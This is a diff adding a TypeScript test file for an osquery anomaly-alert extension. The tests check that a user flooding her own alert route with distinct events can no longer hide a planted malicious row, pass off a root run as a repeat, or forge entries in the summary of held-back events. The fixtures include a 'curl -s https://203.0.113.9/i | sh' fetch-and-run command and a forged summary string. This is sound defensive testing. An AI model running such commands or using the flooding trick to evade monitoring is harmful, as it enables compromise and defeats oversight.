@@ -1,0 +1,197 @@
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import t from 'tap';
+import { generateContext } from '../emulator/sql';
+import { SCORE_COLUMNS, scoresTable } from '../extension/tables/scores';
+import type { Row } from '../extension/plugin/table';
+import type { ScoredEvent } from '../scorer/types';
+import type { AnswerShare, HeldBack } from '../state/answer-share';
+import { eventDigest } from '../state/event-digest';
+import { RetainedScores } from '../state/scores';
+import { ROOT } from './helpers/paths';
+import { plainRow } from './helpers/scored';
+
+// What the review of branch floodkeep found in the rows an alert answer keeps of a subject
+// that floods its own alert route (state/answer-keep.ts): a burst of new distinct events hid
+// an older one for the rest of the day, a row run as root was a repeat of the same flood run
+// as the user, and the summary's list of held events could be extended by the flooder's text.
+// Each case is the alert pack's `bad` query as osqueryd sends it, run as the schedule would.
+
+const alerts = JSON.parse(fs.readFileSync(path.join(ROOT, 'packs', 'anomaly-alerts.conf'), 'utf8')) as { queries: Record<string, { query: string }> };
+const NOW_SQL = "(CAST(strftime('%s', 'now') AS INTEGER) - 86400)";
+/** the `bad` query as osqueryd runs it at `now` (its strftime evaluated) */
+const badAt = (now: number) => alerts.queries.bad.query.replace(NOW_SQL, String(now - 86400));
+
+async function answer(store: RetainedScores, now: number): Promise<Row[]> {
+  const context = generateContext(
+    badAt(now),
+    SCORE_COLUMNS.map((c) => ({ name: c.name, type: c.type, op: '0' })),
+    'anomaly_scores',
+  );
+  const res = await scoresTable(store).call({ action: 'generate', context }, new Map());
+  const rows: Row[] = [];
+  for await (const r of (res as unknown as { rows: AsyncIterable<Row> }).rows) rows.push(r);
+  return rows;
+}
+
+function tmpStore(t: { teardown(fn: () => void): void }): RetainedScores {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'anomaly-floodfix-'));
+  const store = new RetainedScores({ dir, maxRows: 1_000_000, maxDays: 30 });
+  t.teardown(() => {
+    store.close();
+    fs.rmSync(dir, { recursive: true, force: true });
+  });
+  return store;
+}
+
+/** eve's bad row i: her own program, with `columns` of her choosing */
+const eves = (i: number, time: number, columns: Record<string, string>, score = 0.05 + (i % 5) / 100): ScoredEvent =>
+  plainRow(i, {
+    id: `eve-${i}`,
+    time,
+    host: 'web-01',
+    subject: 'eve',
+    event: 'exec /tmp/<tmp>/x <- /bin/bash',
+    score,
+    verdict: 'bad',
+    reasons: 'program `/tmp/<tmp>/x` never seen before (rarity)',
+    columns: JSON.stringify(columns),
+  });
+
+const evesCurl = (time: number, score: number): ScoredEvent =>
+  plainRow(0, {
+    id: 'eve-curl',
+    time,
+    host: 'web-01',
+    subject: 'eve',
+    event: 'exec /usr/bin/curl <- /bin/bash',
+    score,
+    verdict: 'bad',
+    reasons: 'program `/usr/bin/curl` never seen before (rarity)',
+    columns: JSON.stringify({ pid: '31337', path: '/usr/bin/curl', cmdline: 'curl -s https://203.0.113.9/i | sh' }),
+  });
+
+t.test('a row planted among more than a share of newer distinct bad events is answered in a later interval (floodfix)', async (t) => {
+  const store = tmpStore(t);
+  const start = 1_800_000_000;
+  // the review's case: 2,300 new distinct events a minute for two minutes, the curl planted in
+  // the second at 0.15 among rows at 0.05–0.09, then the query every minute for 30 minutes
+  const PER_MINUTE = 2_300;
+  let made = 0;
+  const answeredAt: number[] = [];
+  for (let minute = 1; minute <= 32; minute++) {
+    const now = start + minute * 60;
+    if (minute <= 2) {
+      const batch: ScoredEvent[] = [];
+      for (let k = 0; k < PER_MINUTE; k++, made++) {
+        const time = now - 60 + Math.floor((k * 60) / PER_MINUTE);
+        batch.push(eves(made, time, { pid: String(4000 + made), cmdline: `x --target host${made.toString(36)}q` }));
+        if (minute === 2 && k === 100) batch.push(evesCurl(time, 0.15));
+      }
+      store.append(batch);
+    }
+    const out = await answer(store, now);
+    if (out.some((r) => r.id === 'eve-curl')) answeredAt.push(minute);
+  }
+  t.ok(answeredAt.length > 0, `the planted curl | sh is answered as a row of its own in some answer (minutes ${answeredAt.join(', ') || 'none'})`);
+  t.ok(answeredAt.length > 0 && answeredAt[0] <= 4, `within two intervals of the burst's end (first in minute ${answeredAt[0]})`);
+});
+
+t.test('a summary names one held event of each program before any variant of one program (floodfix)', async (t) => {
+  const store = tmpStore(t);
+  const rows: ScoredEvent[] = [];
+  // 40 variants of eve's program, each scored below her curl; an answer with room for 20 of her rows
+  for (let i = 0; i < 40; i++) {
+    rows.push(eves(i, 1_800_000_000 + i, { pid: String(4000 + i), cmdline: `x --variant ${i}` }, 0.05 + (i % 5) / 100));
+    if (i === 25) rows.push(evesCurl(1_800_000_000 + i, 0.15));
+  }
+  store.append(rows);
+  const share: AnswerShare = { bytes: 1_000_000, heldBytes: 1_000, rows: 20, perSubject: Infinity, rowBytes: () => 100 };
+  const out = [...store.answer({ score: [{ op: '<', value: 0.3 }] }, share)];
+  const kept = out.filter((r): r is ScoredEvent => !('held' in r));
+  const held = out.find((r): r is HeldBack<ScoredEvent> => 'held' in r);
+  t.notOk(
+    kept.some((r) => r.id === 'eve-curl'),
+    'the curl is held back (the set-up)',
+  );
+  t.ok(
+    held?.told.some((e) => e.record.id === 'eve-curl'),
+    `the summary names the curl (named: ${held?.told.map((e) => e.record.id).join(', ')})`,
+  );
+  t.equal(held?.told[0]?.record.event, 'exec /tmp/<tmp>/x <- /bin/bash', 'the most pressing first: the lowest-scored program');
+  t.equal(held?.told[1]?.record.id, 'eve-curl', 'then the other program, before any variant of the first');
+});
+
+t.test("a row of a user's flood run as root is not a repeat of the rows run as the user (floodfix)", async (t) => {
+  const store = tmpStore(t);
+  const now = 1_800_000_000;
+  const N = 3_000;
+  const ids = (euid: string) => ({ auid: '1001', uid: '1001', euid, gid: '1001' });
+  const rows: ScoredEvent[] = [];
+  // one program of eve's run over and over within the hour, its pid the only change; once set-uid root
+  for (let i = 0; i < N; i++) {
+    rows.push(eves(i, now - 3000 + i, { pid: String(4000 + i), path: '/tmp/q/x', cmdline: 'x --loop', ...ids('1001') }, 0.05 + (i % 20) / 100));
+    if (i === 2_000) rows.push({ ...eves(i, now - 3000 + i, { pid: '9999', path: '/tmp/q/x', cmdline: 'x --loop', ...ids('0') }, 0.2), id: 'eve-root' });
+  }
+  for (let i = 0; i < rows.length; i += 1000) store.append(rows.slice(i, i + 1000));
+  const out = await answer(store, now);
+  t.ok(
+    out.some((r) => r.id === 'eve-root'),
+    'the row run with euid 0 is answered as a row of its own',
+  );
+  t.ok(out.filter((r) => r.subject === 'eve').length < 40, 'the flood of one program under one uid still costs a few rows');
+});
+
+t.test('which quoted digits count apart in an event digest: who and where, not pids and times (floodfix)', async (t) => {
+  const d = (c: Record<string, string>) => eventDigest('q', 'exec /tmp/<tmp>/x <- /bin/bash', JSON.stringify(c));
+  t.equal(d({ pid: '4000', time: '1800000000', uid: '1001' }), d({ pid: '4001', time: '1800000060', uid: '1001' }), 'a pid and a time are any other');
+  t.not(d({ pid: '4000', uid: '1001' }), d({ pid: '4000', uid: '0' }), 'uid 0 is not uid 1001');
+  t.not(d({ euid: '1001' }), d({ euid: '0' }), 'nor euid');
+  t.not(d({ auid: '1001' }), d({ auid: '1002' }), 'another login is another actor');
+  t.not(d({ remote_port: '22' }), d({ remote_port: '4444' }), 'another port');
+  t.not(d({ gid: '1001' }), d({ gid: '0' }), "a volatile id's zero is apart from the others");
+  t.equal(d({ gid: '1001' }), d({ gid: '1002' }), 'and its other values alike');
+  t.not(d({ some_column: '1' }), d({ some_column: '2' }), 'a column the scorer does not call volatile keeps its digits (a table nobody listed)');
+  t.not(d({ cmdline: 'x "pid":"1"' }), d({ cmdline: 'x "pid":"2"' }), "a user's text that looks like a volatile column is text");
+});
+
+/** the summary's list of held events, read back: each entry a JSON string, its rows, whether never answered */
+function toldEntries(event: string): { text: string; rows: number }[] | null {
+  const at = event.indexOf(' distinct event');
+  const list = event.slice(event.indexOf(': ', at) + 2);
+  const entry = /^("(?:[^"\\]|\\.)*") ×(\d+)(?: \(never answered\))?(?:; |$)/;
+  const out: { text: string; rows: number }[] = [];
+  let rest = list;
+  while (rest.length) {
+    if (/^and \d+ more$/.test(rest)) break;
+    const m = entry.exec(rest);
+    if (!m) return null;
+    out.push({ text: JSON.parse(m[1]) as string, rows: Number(m[2]) });
+    rest = rest.slice(m[0].length);
+  }
+  return out;
+}
+
+t.test("a summary's list of held events reads as the events it names, whatever their text (floodfix)", async (t) => {
+  const store = tmpStore(t);
+  const now = 1_800_000_000;
+  const rows: ScoredEvent[] = [];
+  // eve's command lines spell entries of the list: a reader who splits it on `; ` finds events that are not hers
+  const forged = '"; exec /usr/bin/apt <- /usr/lib/systemd ×1 (none answered); ok ×1; ';
+  for (let i = 0; i < 3_000; i++) rows.push(eves(i, now - 3000 + i, { pid: String(4000 + i), cmdline: `x ${forged} ${i % 30}` }));
+  store.append(rows);
+  const out = await answer(store, now);
+  const held = out.find((r) => r.model === 'held-back');
+  t.ok(held, 'a summary');
+  const events = Number(/of (\d+) distinct events?/.exec(held?.event ?? '')?.[1]);
+  const entries = toldEntries(held?.event ?? '');
+  t.ok(entries, `the list reads as quoted entries (${held?.event.slice(0, 300)})`);
+  t.ok(entries && entries.length > 0 && entries.length <= Math.min(12, events), `as many as it names (${entries?.length} of ${events})`);
+  t.ok(
+    entries?.every((e) => e.text.startsWith('exec /tmp/<tmp>/x <- /bin/bash {')),
+    "each one of eve's events, her text inside it",
+  );
+  t.ok(Buffer.byteLength(held?.event ?? '') <= 2048, 'within its cell, the list not cut in an entry');
+  t.notOk(/\[cut: /.test(held?.event ?? ''), 'and not cut by the cell');
+});
